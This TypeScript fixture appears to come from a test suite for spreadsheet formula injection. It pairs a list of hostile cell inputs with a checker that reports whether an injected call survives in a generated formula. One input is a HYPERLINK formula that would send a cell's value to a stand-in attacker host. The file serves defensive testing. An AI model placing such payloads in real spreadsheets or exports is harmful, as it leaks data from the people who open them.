/** What somebody may write anywhere, in the hope that LeadPact makes a formula of it. */
export const HOSTILE: readonly string[] = [
  '=EVIL()',
  '=HYPERLINK("http://evil.example?"&A1,"x")&EVIL()',
  '+EVIL()',
  '-EVIL()',
  '@EVIL()',
  '"&EVIL()&"',
  "'!A1&EVIL()&'",
  '\t=EVIL()',
  '＝EVIL()',
  '2026-01-02',
  '1899-12-31',
  '007',
  'TRUE',
  "'=EVIL()",
  '{=EVIL()}',
  'a · b ⏎ c',
  'two\nlines',
];

/** A formula without its texts and the names of tabs: what is left is computed. */
const QUOTED = /"(?:[^"]|"")*"|'(?:[^']|'')*'/g;

/** Whether a formula computes what a hostile text asks for. */
export const isInjected = (formula: string) => /EVIL\s*\(/.test(formula.replace(QUOTED, ''));
